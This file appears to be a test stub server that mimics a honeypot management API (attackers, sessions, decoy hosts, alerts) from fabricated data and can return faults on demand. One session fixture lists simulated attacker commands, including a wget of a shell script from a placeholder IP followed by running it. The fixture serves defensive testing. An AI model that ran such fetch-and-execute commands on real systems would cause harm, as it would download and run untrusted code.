"""A server that answers as the API does, from made-up data, and misbehaves on demand."""

import asyncio
import json
import time
from collections.abc import AsyncIterator, Awaitable, Callable

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from tests.page_answers import OUTBOX, WORKERS, frame, page, paged, problem, transcript
from tests.page_data import ARCHETYPES, House, Json

API = "/api/v1"
PASSWORD = "correct horse battery"
Handler = Callable[[Request], Awaitable[Response]]


def micros() -> int:
    """Now."""
    return time.time_ns() // 1000


class Stub:
    """One house behind one port.

    fault: path prefix below the API to the status that it answers
    delay: seconds that every answer but sign-in takes
    role: of whoever signs in
    """

    def __init__(self, house: House) -> None:
        self.house = house
        self.fault: dict[str, int] = {}
        self.delay = 0.0
        self.role = "admin"
        self.must_change = False
        self.signed_in = True
        self.streams = 0
        self.tickets = 0
        self.cut = False
        self.calls: list[tuple[str, str]] = []
        self.next_seq = len(house.logs) + 1
        self._outgoing: list[asyncio.Queue[tuple[str, Json, int]]] = []
        self._loop: asyncio.AbstractEventLoop | None = None

    def push(self, name: str, data: Json, seq: int = 0) -> None:
        """Sends one message to every open stream."""
        assert self._loop is not None
        for queue in list(self._outgoing):
            self._loop.call_soon_threadsafe(queue.put_nowait, (name, data, seq))

    def happen(self, count: int = 1) -> list[Json]:
        """Lets events happen: they are in the list and on the stream."""
        items: list[Json] = []
        for _ in range(count):
            items.append(self.house.event(self.next_seq, micros()))
            self.next_seq += 1
        self.house.logs[:0] = reversed(items)
        self.push("log", {"items": items, "dropped": 0}, self.next_seq - 1)
        return items

    # answers

    def _grant(self) -> Json:
        return {
            "access_token": "stub-token",
            "token_type": "bearer",
            "expires_in": 900,
            "must_change_password": self.must_change,
            "user": {"username": "ana", "role": self.role},
        }

    async def _login(self, request: Request) -> Response:
        body = await request.json()
        if body["password"] != PASSWORD:
            return problem(401, "Wrong name or password")
        self.signed_in = True
        return JSONResponse(self._grant())

    async def _refresh(self, _: Request) -> Response:
        return JSONResponse(self._grant()) if self.signed_in else problem(401, "No session")

    async def _logout(self, _: Request) -> Response:
        self.signed_in = False
        return Response(status_code=204)

    async def _password(self, _: Request) -> Response:
        self.must_change = False
        return Response(status_code=204)

    async def _ticket(self, _: Request) -> Response:
        self.tickets += 1
        return JSONResponse({"ticket": f"t{self.tickets}", "expires_in": 30})

    async def _stream(self, request: Request) -> Response:
        if self.cut:
            return problem(500, "cut")
        after = int(request.query_params.get("after", "0"))
        return StreamingResponse(self._messages(after), media_type="text/event-stream")

    async def _messages(self, after: int) -> AsyncIterator[str]:
        self._loop = asyncio.get_running_loop()
        queue: asyncio.Queue[tuple[str, Json, int]] = asyncio.Queue()
        self._outgoing.append(queue)
        self.streams += 1
        try:
            yield frame("hello", {"seq": self.next_seq - 1}, self.next_seq - 1)
            if after:
                missed = [item for item in self.house.logs if int(str(item["seq"])) > after]
                yield frame("log", {"items": missed[::-1], "dropped": 0}, self.next_seq - 1)
            while not self.cut:
                try:
                    name, data, seq = await asyncio.wait_for(queue.get(), 0.5)
                    yield frame(name, data, seq)
                except TimeoutError:
                    self.house.now = micros()
                    yield frame("stats", self.house.stats(), 0)
        finally:
            self._outgoing.remove(queue)
            self.streams -= 1

    async def _logs(self, request: Request) -> Response:
        ask = request.query_params
        found = [item for item in self.house.logs if _matches(item, dict(ask))]
        if ask.get("order") == "asc":
            found = found[::-1]
        return paged(found, request)

    async def _log(self, request: Request) -> Response:
        seq = int(request.path_params["seq"])
        found = next((item for item in self.house.logs if item["seq"] == seq), None)
        return JSONResponse(found) if found else problem(404, "No such event")

    async def _raw(self, request: Request) -> Response:
        seq = int(request.path_params["seq"])
        return JSONResponse(
            {
                "seq": seq,
                "line": "<134>1 2026-01-02T14:02:31.114Z decky-01 ssh - command.issued "
                f'[decnet@1 v="1" n="{seq}"][fact@1 line="uname -a"] secret=***',
            }
        )

    async def _histogram(self, request: Request) -> Response:
        ask = request.query_params
        now = micros()
        return JSONResponse(self.house.histogram(int(ask.get("since", "0")), int(ask.get("until", now)), ask["by"]))

    async def _stats(self, _: Request) -> Response:
        self.house.now = micros()
        return JSONResponse(self.house.stats())

    async def _stories(self, request: Request) -> Response:
        ask = request.query_params
        state = ask.get("state", "all")
        rows = [
            item
            for item in self.house.stories
            if int(str(item["depth"])) >= int(ask.get("min_depth", "0"))
            and state in ("all", item["state"])
            and ask.get("attacker") in (None, _actor(item))
        ]
        return paged(rows, request)

    async def _triage(self, request: Request) -> Response:
        action = (await request.json())["action"]
        story = next(item for item in self.house.stories if item["id"] == request.path_params["id"])
        story["state"] = {"acknowledge": "acknowledged", "mute": "muted", "reopen": "open"}[action]
        self.push("story", {"story": story})
        return JSONResponse(story)

    async def _attackers(self, request: Request) -> Response:
        ask = request.query_params
        rows = [
            item
            for item in self.house.attackers
            if ask.get("search", "") in str(item["peer"]) and int(str(item["depth"])) >= int(ask.get("min_depth", "0"))
        ]
        order = {"depth": "depth", "active": "events"}.get(ask.get("sort", ""), "last_seen")
        return paged(sorted(rows, key=lambda item: -int(str(item[order]))), request)

    async def _attacker(self, request: Request) -> Response:
        found = _by(self.house.attackers, "uuid", request.path_params["id"])
        if not found:
            return problem(404, "No such attacker")
        story = next(item for item in self.house.stories if _actor(item) == found["uuid"])
        return JSONResponse(
            {
                **found,
                "software": ["SSH-2.0-libssh_0.9.6"],
                "hassh": ["92674389fa1e47a27ddd8d9b63ecd42b"],
                "story_id": story["id"],
                "credentials_tried": 12,
                "accepted_logins": 2,
                "commands_recent": ["uname -a"],
            }
        )

    async def _timeline(self, request: Request) -> Response:
        attacker = _by(self.house.attackers, "uuid", request.path_params["id"])
        kinds = [kind for kind in request.query_params.get("kinds", "").split(",") if kind]
        rows = [
            item
            for item in self.house.logs
            if attacker and item["peer"] == attacker["peer"] and (not kinds or item["kind"] in kinds)
        ]
        return paged(rows[::-1] if request.query_params.get("order") == "asc" else rows, request)

    async def _sessions(self, request: Request) -> Response:
        ask = request.query_params
        rows = [
            item
            for item in self.house.sessions
            if (ask.get("live") != "1" or item["ended"] is None)
            and ask.get("attacker") in (None, item["attacker_uuid"])
            and ask.get("decky") in (None, item["decky"])
            and ask.get("service") in (None, item["service"])
            and (ask.get("recording") != "1" or item["recording"] in ("live", "recorded"))
        ]
        return paged(rows, request)

    async def _session(self, request: Request) -> Response:
        found = _by(self.house.sessions, "sid", request.path_params["id"])
        if not found:
            return problem(404, "No such session")
        started = int(str(found["started"]))
        commands = [
            {"at": started + round((1.6 + index * 8.3) * 1_000_000), "seq": index + 1, "line": line, "effect": "read"}
            for index, line in enumerate(("uname -a", "id", "wget http://198.51.100.7/x.sh", "sh x.sh"))
        ]
        terminal = found["recording"] in ("live", "recorded")
        return JSONResponse({**found, "commands": commands if terminal else [], "transcript": terminal})

    async def _transcript(self, request: Request) -> Response:
        found = _by(self.house.sessions, "sid", request.path_params["sid"])
        return JSONResponse(transcript(found)) if found else problem(404, "No such recording")

    async def _deckies(self, request: Request) -> Response:
        return paged(self.house.deckies, request)

    async def _decky(self, request: Request) -> Response:
        found = _by(self.house.deckies, "name", request.path_params["name"])
        return JSONResponse(found) if found else problem(404, "No such decky")

    async def _accepted(self, _: Request) -> Response:
        return JSONResponse({"deckies": [], "generation": 2}, status_code=202)

    async def _reveal(self, request: Request) -> Response:
        return JSONResponse({"id": request.path_params["id"], "secret": "hunter2\x1b[31m"})

    async def _alerts(self, request: Request) -> Response:
        if request.method == "PUT":
            return JSONResponse(await request.json())
        return JSONResponse(
            {
                "webhook": {"enabled": True, "url": "https://hooks.example/decnet", "secret": "***", "min_depth": 3},
                "mail": {
                    "enabled": False,
                    "host": "",
                    "port": 587,
                    "sender": "",
                    "recipient": "",
                    "tls": True,
                    "username": "",
                    "password": "",
                    "min_depth": 3,
                },
                "allow": ["10.0.0.0/8"],
            }
        )

    async def _tested(self, _: Request) -> Response:
        return JSONResponse({"ok": False, "detail": "connection refused"})

    def _listing(self, rows: Callable[[], list[Json]]) -> Handler:
        async def handler(request: Request) -> Response:
            return paged(rows(), request)

        return handler

    def _whole(self, rows: Callable[[], list[Json]]) -> Handler:
        async def handler(_: Request) -> Response:
            return JSONResponse(rows())

        return handler

    def _guarded(self, handler: Handler) -> Handler:
        async def guarded(request: Request) -> Response:
            path = request.url.path.removeprefix(API)
            self.calls.append((request.method, path))
            if not path.startswith("/auth") and self.delay:
                await asyncio.sleep(self.delay)
            for prefix, status in self.fault.items():
                if path.startswith(prefix) and not path.startswith("/auth"):
                    return problem(status, f"the stub was told to answer {status}")
            return await handler(request)

        return guarded

    def app(self) -> Starlette:
        """The server."""
        archetypes: list[Json] = [
            {"key": key, "summary": summary, "services": list(services), "distros": ["debian"]}
            for key, summary, services in ARCHETYPES
        ]
        house = self.house
        table: list[tuple[str, str, Handler]] = [
            ("POST", "/auth/login", self._login),
            ("POST", "/auth/refresh", self._refresh),
            ("POST", "/auth/logout", self._logout),
            ("PUT", "/auth/password", self._password),
            ("POST", "/auth/sse-ticket", self._ticket),
            ("GET", "/stream", self._stream),
            ("GET", "/logs", self._logs),
            ("GET", "/logs/histogram", self._histogram),
            ("GET", "/logs/{seq:int}", self._log),
            ("GET", "/logs/{seq:int}/raw", self._raw),
            ("GET", "/stats", self._stats),
            ("GET", "/stories", self._stories),
            ("POST", "/stories/{id}/triage", self._triage),
            ("GET", "/attackers", self._attackers),
            ("GET", "/attackers/{id}", self._attacker),
            ("GET", "/attackers/{id}/timeline", self._timeline),
            ("GET", "/attackers/{id}/sessions", self._sessions),
            ("GET", "/sessions", self._sessions),
            ("GET", "/sessions/{id}", self._session),
            ("GET", "/transcripts/{decky}/{sid}", self._transcript),
            ("GET", "/deckies", self._deckies),
            ("POST", "/deckies", self._accepted),
            ("GET", "/deckies/{name}", self._decky),
            ("DELETE", "/deckies/{name}", self._accepted),
            ("GET", "/archetypes", self._whole(lambda: archetypes)),
            ("GET", "/credentials", self._listing(lambda: house.credentials)),
            ("POST", "/credentials/{id}/reveal", self._reveal),
            ("GET", "/workers", self._whole(lambda: [{**item, "last_seen": micros()} for item in WORKERS])),
            ("POST", "/workers/{name}/{deed}", self._accepted),
            ("GET", "/alerts", self._alerts),
            ("PUT", "/alerts", self._alerts),
            ("POST", "/alerts/test", self._tested),
            ("GET", "/alerts/outbox", self._listing(lambda: [{**item, "created_at": micros()} for item in OUTBOX])),
            (
                "GET",
                "/users",
                self._listing(
                    lambda: [
                        {"username": "ana", "role": "admin", "must_change_password": False},
                        {"username": "ben", "role": "viewer", "must_change_password": True},
                    ]
                ),
            ),
            ("POST", "/users", self._accepted),
        ]
        routes = [Route(API + path, self._guarded(handler), methods=[method]) for method, path, handler in table]
        routes.append(Route("/{path:path}", page))
        return Starlette(routes=routes)


def _matches(item: Json, ask: dict[str, str]) -> bool:
    at = int(str(item["at"]))
    if at < int(ask.get("since", 0)) or at > int(ask.get("until", at)):
        return False
    if any(ask.get(name) not in (None, item[name]) for name in ("decky", "service", "kind", "peer", "session")):
        return False
    return all(word.lower() in json.dumps(item["fact"]).lower() for word in ask.get("search", "").split())


def _actor(story: Json) -> object:
    actor = story["actor"]
    assert isinstance(actor, dict)
    return actor["attacker_uuid"]


def _by(rows: list[Json], name: str, value: str) -> Json | None:
    return next((item for item in rows if item[name] == value), None)
